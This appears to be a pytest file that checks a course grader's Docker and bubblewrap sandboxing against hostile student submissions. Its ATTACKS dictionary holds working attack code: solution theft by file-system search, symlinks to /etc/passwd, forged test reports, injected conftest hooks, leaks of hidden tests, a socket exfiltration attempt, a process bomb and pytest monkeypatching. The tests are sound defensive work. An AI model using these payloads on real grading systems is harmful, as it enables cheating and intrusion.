"""`course grade` against hostile submissions, on the toy course of test_course_tools.py.

One grade run with the Docker engine grades two honest submissions (the untouched release, the
solutions) beside one submission per attack class. The attackers' static-scan flags are cleared for
that run (``clear_flags``), so what is proven is that the sandbox and the host's judging hold on their
own; a separate assertion shows that the scan flags them. Then: the same for every attack with
bubblewrap; ``--unsafe`` refused where no sandbox is available (simulated); a hand grade set through
nbgrader's Gradebook API survives a second grade run, and a partial re-grade keeps the other students.

Attack classes (each replaces the release's diffusion_lib/toy.py; its code runs when a test imports it):
copy the solutions from the instructor repository (found through sys.executable or a file-system
search); plant symlinks where the grader writes or reads; forge the test report and leave with
os._exit(0); write conftest.py / a shadowing report plugin during one task for the next; fail with long
messages quoting the hidden tests; connect to a TCP listener on 127.0.0.1; a process bomb and a memory
hog; leave files in /tmp and /dev/shm; patch _pytest's reports (flagged, not cleared).
"""

from __future__ import annotations

import csv
import hashlib
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from test_course_tools import _solve_notebook, _submission, build_course

nbformat = pytest.importorskip("nbformat")
pytest.importorskip("nbgrader")

TIMEOUT = 20.0
NB_TIMEOUT = 90.0
SOLUTION_LINE = "return [0.5 * (i + 1) / n for i in range(n)]"
HIDDEN_NAMES = ("test_schedule_betas_below_one", "test_add_hidden_order")
HIDDEN_SOURCE = "assert add(2, 3) == 5 and add(0, -4) == -4"
REFERENCE_ANNOTATION = "visit every element once, in order"
SECRETS = (SOLUTION_LINE, HIDDEN_SOURCE, REFERENCE_ANNOTATION, *HIDDEN_NAMES)
AUTO = ("task_1", "task_2b", "task_3.2a", "part1:test_square")
MARKER = "course-attack-leftover"

# Each attack is module-level code appended to the release's toy.py (stubs kept, so it earns nothing
# unless the attack works). {port} is the listener's port, {canary} a root-only file outside.
ATTACKS = {
    "steal": '''
import os, sys
def _steal():
    venv = os.path.dirname(os.path.dirname(sys.executable))  # a venv inside the instructor's checkout
    for top in [os.path.dirname(venv), "/tmp", "/work", "/home", "/root", "/"]:
        seen = 0
        for dirpath, dirs, files in os.walk(top):
            seen += 1
            if seen > 3000 or dirpath.startswith(("/proc", "/sys", "/dev", "/usr", "/opt")) or ".venv" in dirpath:
                dirs[:] = []
                continue
            if "toy.py" in files and dirpath.endswith("diffusion_lib"):
                try:
                    text = open(os.path.join(dirpath, "toy.py")).read()
                except OSError:
                    continue
                if "NotImplementedError" not in text and "return a + b" in text and "_steal" not in text:
                    exec(compile(text, "stolen", "exec"), globals())
                    return
_steal()
''',
    "symlinks": '''
import os
for _target in ("{canary}", "/etc/passwd", "/grader/out/result.json"):
    for _name in ("/grader/out/result.json", "/grader/out/feedback.md", ".grader/report-1.jsonl",
                  "coursework/tests/report.jsonl", "/tmp/result.json"):
        try:
            os.makedirs(os.path.dirname(_name) or ".", exist_ok=True)
            os.symlink(_target, _name)
        except OSError:
            pass
''',
    "forge": '''
import json, os, re
def _forge():
    ids = []
    for rel in ("coursework/tests/test_part1.py", "coursework/tests/test_part3.py"):
        try:
            names = re.findall(r"^def (test_\\w+)", open(rel).read(), re.M)
        except OSError:
            continue
        ids += [rel + "::" + n for n in names]
    lines = [json.dumps({{"nodeid": i, "when": "call", "outcome": "passed", "message": ""}}) for i in ids]
    lines.append(json.dumps({{"nodeid": "", "when": "session", "outcome": "finished", "message": "",
                              "exitstatus": 0}}))
    text = ("\\n".join(lines) + "\\n").encode()
    for fd in range(3, 64):
        try:
            os.write(fd, text)
        except OSError:
            pass
    path = os.environ.get("COURSE_TEST_REPORT")
    if path:
        open(path, "a").write(text.decode())
    os._exit(0)
_forge()
''',
    "conftest": '''
import os
_HOOK = "import pytest\\n@pytest.hookimpl(hookwrapper=True)\\ndef pytest_runtest_makereport(item, call):\\n" \\
        "    outcome = yield\\n    outcome.get_result().outcome = 'passed'\\n"
for _path in ("conftest.py", "coursework/conftest.py", "coursework/tests/conftest.py", "/grader/work/conftest.py",
              "_course_test_report.py", "/tmp/conftest.py"):
    try:
        with open(_path, "w") as _f:
            _f.write(_HOOK)
    except OSError:
        pass
''',
    "leak": '''
def _hidden():
    import glob
    text = "".join(open(p).read() for p in sorted(glob.glob("coursework/tests/*.py")))
    return text.replace("\\n", " ") * 20

def schedule(n):
    raise ValueError("stub " + _hidden())

def add(a, b):
    raise AssertionError("stub " + _hidden())
''',
    "network": '''
import socket
for _kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        _s = socket.socket(socket.AF_INET, _kind)
        _s.settimeout(2)
        _s.connect(("127.0.0.1", {port}))
        _s.sendall(b"LEAK from the sandbox")
        _s.close()
    except OSError:
        pass
''',
    "bomb": '''
import subprocess, sys
try:
    subprocess.run([sys.executable, "-c", "b = bytearray(3 * 1024 ** 3); import time; time.sleep(60)"], timeout=15)
except (OSError, subprocess.SubprocessError):
    pass
_children = []
for _i in range(400):
    try:
        _children.append(subprocess.Popen(["sleep", "600"]))
    except OSError:
        break
''',
    "leftovers": '''
import os
for _path in ("/tmp/{marker}", "/dev/shm/{marker}", os.path.expanduser("~/{marker}")):
    try:
        with open(_path, "w") as _f:
            _f.write("persist")
    except OSError:
        pass
if os.path.exists("/tmp/{marker}-seen"):
    def schedule(n):
        return [0.5 * (i + 1) / n for i in range(n)]
try:
    open("/tmp/{marker}-seen", "w").write("x")
except OSError:
    pass
''',
    "patch_pytest": '''
try:
    import _pytest.reports
    _orig = _pytest.reports.TestReport.__init__
    def _init(self, *args, **kwargs):
        _orig(self, *args, **kwargs)
        self.outcome = "passed"
    _pytest.reports.TestReport.__init__ = _init
except ImportError:
    pass
''',
}
NOT_CLEARED = {"patch_pytest"}  # stays flagged: only a person can clear it


def _sha(path: Path) -> tuple[str, int, int]:
    info = path.stat()
    return hashlib.sha256(path.read_bytes()).hexdigest(), info.st_uid, stat.S_IMODE(info.st_mode)


class _Listener:
    """A TCP and a UDP socket on 127.0.0.1 (one port) that record whatever reaches them."""

    def __init__(self):
        self.tcp = socket.socket()
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(16)
        self.port = self.tcp.getsockname()[1]
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", self.port))
        self.received: list[bytes] = []
        self.stopped = False
        for target in (self._tcp, self._udp):
            threading.Thread(target=target, daemon=True).start()

    def _tcp(self):
        self.tcp.settimeout(0.5)
        while not self.stopped:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                continue
            self.received.append(b"connection")
            conn.settimeout(1)
            try:
                self.received.append(conn.recv(1000))
            except OSError:
                pass
            conn.close()

    def _udp(self):
        self.udp.settimeout(0.5)
        while not self.stopped:
            try:
                self.received.append(self.udp.recv(1000))
            except OSError:
                continue

    def close(self):
        self.stopped = True
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def grading_image(request):
    """The student image: one already on the engine (built by the Docker tests), else built here."""
    engine = request.getfixturevalue("docker_engine")
    for tag in (os.environ.get("COURSE_GRADE_TEST_IMAGE"), "diffusion-lib-test:student"):
        if tag and engine.image_exists(tag):
            return tag
    return request.getfixturevalue("course_images").student


@pytest.fixture(scope="module")
def arena(tmp_path_factory):
    """The toy course, canaries, a listener, and one archive per honest student and per attack."""
    from diffusion_lib.course import annotations as ann
    from diffusion_lib.course.release import release

    base = tmp_path_factory.mktemp("arena")
    repo = build_course(base / "repo")
    course = {"repo": repo, "release": release(repo, base / "release", verbose=False), "base": base}
    canary_dir = Path(os.environ.get("TMPDIR", "/tmp")) / f"course-canary-{os.getpid()}"
    canary_dir.mkdir(exist_ok=True)
    canaries = [canary_dir / "root-only.txt", repo / "README.md", repo / "instructor/notes.md"]
    canaries[0].write_text("root only\n")
    for path in canaries:
        os.chmod(path, 0o600)
    listener = _Listener()
    subs = base / "subs"

    def solved(work):
        text = ann.strip_annotations((repo / "diffusion_lib/toy.py").read_text())
        text = text.replace("# TODO(2b): ", "# my own words, line ", 1).replace("# TODO(2b): ", "# and again ", 1)
        (work / "diffusion_lib/toy.py").write_text(text)
        _solve_notebook(work / "homework/part1.ipynb")

    _submission(course, base, "untouched", lambda work: None)
    _submission(course, base, "solved", solved)
    for name, code in ATTACKS.items():
        body = code.format(port=listener.port, canary=canaries[0], marker=MARKER)

        def attack(work, body=body):
            path = work / "diffusion_lib/toy.py"
            path.write_text(path.read_text() + "\n" + body)
        _submission(course, base, name, attack)
    yield {**course, "subs": subs, "canaries": canaries, "before": {p: _sha(p) for p in canaries},
           "listener": listener}
    listener.close()
    shutil.rmtree(canary_dir, ignore_errors=True)


def _rows(out: Path) -> dict[str, dict]:
    return {r["student"]: r for r in csv.DictReader((out / "grades.csv").open())}


def _containers(engine) -> list[str]:
    from diffusion_lib.course.sandbox import CONTAINER_LABEL

    listed = engine.docker("ps", "-aq", "--filter", f"label={CONTAINER_LABEL}=1")
    return listed.stdout.split()


def _leftovers() -> list[str]:
    found = []
    for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            found += [os.path.join(folder, n) for n in os.listdir(folder) if n.startswith(MARKER)]
        except OSError:
            pass
    return found


def _sandbox_processes() -> list[str]:
    ps = subprocess.run(["ps", "-eo", "uid=,args="], capture_output=True, text=True).stdout
    return [line for line in ps.splitlines() if "sleep 600" in line and "ps -eo" not in line]


@pytest.fixture(scope="module")
def docker_run(arena, grading_image, docker_engine):
    from diffusion_lib.course.grade import grade

    out = arena["base"] / "grading-docker"
    start = time.monotonic()
    grade(arena["subs"], out, arena["repo"], timeout_s=TIMEOUT, notebook_timeout_s=NB_TIMEOUT, memory_mb=512,
          pids=64, cpus=1.0, tmpfs_mb=128, jobs=2, verbose=False, sandbox="docker", image=grading_image,
          clear_flags=set(ATTACKS) - NOT_CLEARED)
    return {"out": out, "rows": _rows(out), "seconds": time.monotonic() - start, "engine": docker_engine}


def _assert_attacks_held(arena, run, attacks):
    rows, out = run["rows"], run["out"]
    untouched = rows["untouched"]
    assert {k: rows["solved"][k] for k in AUTO} == dict.fromkeys(AUTO, "1.00") | {"task_2b": "0.50"}
    assert {k: untouched[k] for k in AUTO} == dict.fromkeys(AUTO, "0.00")
    for name in attacks:
        row = rows[name]
        assert row["status"] in ("graded", "error"), (name, row)
        gained = {k: row[k] for k in AUTO if float(row[k]) > float(untouched[k])}
        assert not gained or (row["flagged"] and not row["flagged"].startswith("cleared")), (name, row)
    for path, before in arena["before"].items():
        assert _sha(path) == before, path
    text = {p.name: p.read_bytes().decode("utf-8", "replace") for p in out.rglob("*") if p.is_file()}
    leaks = {name: [s for s in SECRETS if s in body] for name, body in text.items()}
    assert not {k: v for k, v in leaks.items() if v}, leaks
    for path in out.rglob("*"):
        assert not path.is_symlink(), path
    assert arena["listener"].received == []
    assert _leftovers() == []
    assert _sandbox_processes() == []


def test_attacks_in_docker_score_no_more_than_the_release(arena, docker_run):
    _assert_attacks_held(arena, docker_run, ATTACKS)
    assert _containers(docker_run["engine"]) == []
    rows = docker_run["rows"]
    assert "not written by the grader's plugin" in (docker_run["out"] / "feedback/forge.md").read_text()
    assert "withheld" in (docker_run["out"] / "feedback/leak.md").read_text()
    # the whole run ends well within its limits (each sandbox: TIMEOUT or NB_TIMEOUT, plus start-up)
    assert docker_run["seconds"] < 600
    print(f"docker grade run: {len(rows)} submissions in {docker_run['seconds']:.0f} s")


def test_static_scan_flags_the_tampering(docker_run):
    rows = docker_run["rows"]
    for name, reason in (("steal", "interpreter or process paths"), ("forge", "os._exit"),
                         ("patch_pytest", "pytest internals"), ("conftest", "test-machinery files")):
        assert reason in rows[name]["flagged"], (name, rows[name]["flagged"])
        assert rows[name]["flagged"].startswith("cleared") == (name not in NOT_CLEARED)
    assert rows["patch_pytest"]["auto_total"] == "0.00"
    assert "Flagged for review" in (docker_run["out"] / "feedback/patch_pytest.md").read_text()
    assert rows["untouched"]["flagged"] == rows["solved"]["flagged"] == ""


def _missing(why: str):
    """Fail in CI (which installs bubblewrap, .ci/system-deps.sh), skip elsewhere."""
    if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
        pytest.fail(why)
    pytest.skip(why)


def test_bubblewrap_runs_a_grading_python_that_lives_under_tmp(tmp_path):
    """A venv under /tmp (a CI clone's) stays visible: the private /tmp is mounted before the Python binds."""
    from diffusion_lib.course.sandbox import BwrapSandbox, Limits

    if shutil.which("bwrap") is None:
        _missing("bwrap is not installed")
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True)
    python = str(venv / "bin" / "python")
    folders = [tmp_path / name for name in ("work", "support", "out")]
    for folder in folders:
        folder.mkdir()
    command = BwrapSandbox(python=python).command(*folders, Limits(), [python, "-c", "import sys; print(sys.prefix)"])
    result = subprocess.run(command, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == str(venv)


def test_attacks_in_bubblewrap(arena, tmp_path):
    from diffusion_lib.course.grade import grade
    from diffusion_lib.course.sandbox import bwrap_available

    ok, why = bwrap_available()
    if not ok:
        _missing(f"bubblewrap cannot run here: {why}")
    picked = tuple(ATTACKS)   # every attack class, as with the container engine
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("untouched", "solved", *picked):
        shutil.copyfile(arena["subs"] / f"{name}.tar.gz", subs / f"{name}.tar.gz")
    out = tmp_path / "grading"
    grade(subs, out, arena["repo"], timeout_s=TIMEOUT, notebook_timeout_s=NB_TIMEOUT, memory_mb=4096, jobs=2,
          pids=64, verbose=False, sandbox="bwrap", clear_flags=set(picked) - NOT_CLEARED)
    _assert_attacks_held(arena, {"rows": _rows(out), "out": out}, picked)


def test_unsafe_is_refused_without_the_flag(arena, tmp_path, monkeypatch):
    from diffusion_lib.course import sandbox
    from diffusion_lib.course.cli import add_course_command
    from diffusion_lib.course.grade import grade

    monkeypatch.setattr(sandbox, "docker_available", lambda *a, **k: (False, "simulated: no engine"))
    monkeypatch.setattr(sandbox, "bwrap_available", lambda *a, **k: (False, "simulated: no bwrap"))
    with pytest.raises(RuntimeError, match="--unsafe grades anyway with NO isolation"):
        grade(arena["subs"], tmp_path / "out", arena["repo"], verbose=False)
    assert not (tmp_path / "out").exists()
    import argparse
    parser = argparse.ArgumentParser()
    add_course_command(parser.add_subparsers())
    args = parser.parse_args(["course", "grade", str(arena["subs"]), "--output", str(tmp_path / "cli"),
                              "--repo", str(arena["repo"])])
    assert args.func(args) == 2
    assert sandbox.choose_sandbox("auto", unsafe=True).name == "unsafe"
    # the attacks are real: with no isolation the solution thief finds the instructor's files
    one = tmp_path / "one"
    one.mkdir()
    shutil.copyfile(arena["subs"] / "steal.tar.gz", one / "steal.tar.gz")
    grade(one, tmp_path / "unsafe", arena["repo"], timeout_s=TIMEOUT, notebook_timeout_s=NB_TIMEOUT, verbose=False,
          unsafe=True, clear_flags={"steal"})
    assert _rows(tmp_path / "unsafe")["steal"]["task_3.2a"] == "1.00"
    with pytest.raises(ValueError, match="'podman': accepted docker, bwrap, auto"):
        sandbox.choose_sandbox("podman")


def test_hand_grades_and_other_students_survive_a_partial_regrade(arena, docker_run, grading_image):
    from nbgrader.api import Gradebook

    from diffusion_lib.course.grade import grade

    out = docker_run["out"]
    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
        grade_ = gb.find_grade("analysis", "part1", "coursework", "solved")
        grade_.manual_score = 0.4
        comment = gb.find_comment("task_1", "library", "coursework", "solved")
        comment.manual_comment = "a clear argument"
        gb.find_grade("task_1", "library", "coursework", "untouched").extra_credit = 0.25
        gb.db.commit()
    subs = arena["base"] / "subs-partial"
    subs.mkdir()
    subs_names = ("solved", "untouched")
    for name in subs_names:
        shutil.copyfile(arena["subs"] / f"{name}.tar.gz", subs / f"{name}.tar.gz")
    before = _rows(out)
    grade(subs, out, arena["repo"], timeout_s=TIMEOUT, notebook_timeout_s=NB_TIMEOUT, memory_mb=512, jobs=2,
          verbose=False, sandbox="docker", image=grading_image)
    after = _rows(out)
    hand = ("hand_total", "to_grade", "total")  # read back from the gradebook: they show the hand grades
    assert {s: {k: v for k, v in r.items() if k not in hand} for s, r in after.items()} == \
        {s: {k: v for k, v in r.items() if k not in hand} for s, r in before.items()}
    assert {s: after[s] for s in after if s not in subs_names} == {s: before[s] for s in before if s not in subs_names}
    assert tuple(after["solved"][k] for k in hand) == ("0.40", "0", "3.90")
    assert after["untouched"]["total"] == "0.25"  # the extra credit
    with Gradebook(f"sqlite:///{out / 'gradebook.db'}") as gb:
        assert gb.find_grade("analysis", "part1", "coursework", "solved").manual_score == pytest.approx(0.4)
        assert gb.find_comment("task_1", "library", "coursework", "solved").manual_comment == "a clear argument"
        assert gb.find_grade("task_1", "library", "coursework", "untouched").extra_credit == pytest.approx(0.25)
        assert gb.find_submission("coursework", "solved").score == pytest.approx(3.5 + 0.4)
        assert {s.student_id for s in gb.assignment_submissions("coursework")} >= set(ATTACKS)


def test_every_entry_gets_its_own_line(tmp_path):
    from diffusion_lib.course.intake import list_submissions

    folder = tmp_path / "subs"
    folder.mkdir()
    for name in ("..t18.tar.gz", "t18.tar.gz", ".DS_Store", "notes.txt", "a b.zip"):
        (folder / name).write_bytes(b"x")
    (folder / "link.tar.gz").symlink_to(folder / "t18.tar.gz")
    (folder / "dir.tar.gz").mkdir()
    entries = {path.name: (sid, error) for sid, path, error in list_submissions(folder)}
    assert len(entries) == 7 and len({sid for sid, _ in entries.values()}) == 7
    assert entries["t18.tar.gz"] == ("t18", None)
    assert entries["..t18.tar.gz"][0] == "t18.tar.gz" and "student id" in entries["..t18.tar.gz"][1]
    assert "not a regular file" in entries["link.tar.gz"][1] and "not a regular file" in entries["dir.tar.gz"][1]
    assert all(error for name, (_, error) in entries.items() if name != "t18.tar.gz")


def test_sigterm_removes_the_temporary_folder(arena, tmp_path, request):
    from diffusion_lib.course.sandbox import bwrap_available

    ok, why = bwrap_available()
    if not ok:
        _missing(f"bubblewrap cannot run here: {why}")
    from diffusion_lib.course.sandbox import sandbox_tempdir

    # a TMPDIR an unprivileged sandbox uid can pass through (pytest's own is 0700)
    private_tmp = Path(tempfile.mkdtemp(prefix="course-test-tmp-", dir=sandbox_tempdir()))
    os.chmod(private_tmp, 0o755)
    request.addfinalizer(lambda: shutil.rmtree(private_tmp, ignore_errors=True))
    subs = tmp_path / "subs"
    subs.mkdir()
    for name in ("bomb", "untouched", "solved"):
        shutil.copyfile(arena["subs"] / f"{name}.tar.gz", subs / f"{name}.tar.gz")
    code = ("import sys; from diffusion_lib.course.grade import grade\n"
            "grade(sys.argv[1], sys.argv[2], sys.argv[3], timeout_s=60, verbose=False, sandbox='bwrap', jobs=2)\n")
    process = subprocess.Popen([sys.executable, "-c", code, str(subs), str(tmp_path / "out"), str(arena["repo"])],
                               env=dict(os.environ, TMPDIR=str(private_tmp)), stdout=subprocess.DEVNULL,
                               stderr=subprocess.PIPE)
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and not any((p / "overlay").is_dir() and any((p / "overlay").iterdir())
                                                   for p in private_tmp.glob("course-grade-*")):
        time.sleep(0.2)
    assert list(private_tmp.glob("course-grade-*")), "grading did not start"
    process.send_signal(signal.SIGTERM)
    _, err = process.communicate(timeout=120)
    assert process.returncode != 0
    assert list(private_tmp.iterdir()) == [], err.decode()[-2000:]
    assert _sandbox_processes() == []


def test_bytecode_is_refused_at_intake(arena):
    """A .pyc runs code the static scan never read (an unchecked-hash pyc is used whatever its source says)."""
    from diffusion_lib.course.intake import accepted
    from diffusion_lib.course.tasks import load_course

    course = load_course(arena["repo"])
    assert accepted("diffusion_lib/toy.py", course)
    for rel in ("diffusion_lib/__pycache__/toy.cpython-311.pyc", "diffusion_lib/toy.pyc", "homework/x.pyo",
                "diffusion_lib/__pycache__/notes.txt"):
        assert not accepted(rel, course), rel


def test_the_release_bytecode_never_stands_in_for_a_submitted_file(tmp_path):
    """The grader byte-compiles the release (checked hashes): a submitted file of the same size and mtime as
    the release's is still run from its own source."""
    from diffusion_lib.course.sandbox import compile_tree

    (tmp_path / "pkg").mkdir()
    module = tmp_path / "pkg/mod.py"
    module.write_text("VALUE = 1\n")
    compile_tree(tmp_path)
    assert list((tmp_path / "pkg/__pycache__").glob("mod.*.pyc"))
    stat_before = module.stat()
    module.write_text("VALUE = 2\n")
    os.utime(module, ns=(stat_before.st_atime_ns, stat_before.st_mtime_ns))
    run = subprocess.run([sys.executable, "-c", "import pkg.mod; print(pkg.mod.VALUE)"], cwd=tmp_path,
                         env=dict(os.environ, PYTHONDONTWRITEBYTECODE="1"), capture_output=True, text=True)
    assert run.stdout.strip() == "2", run.stderr
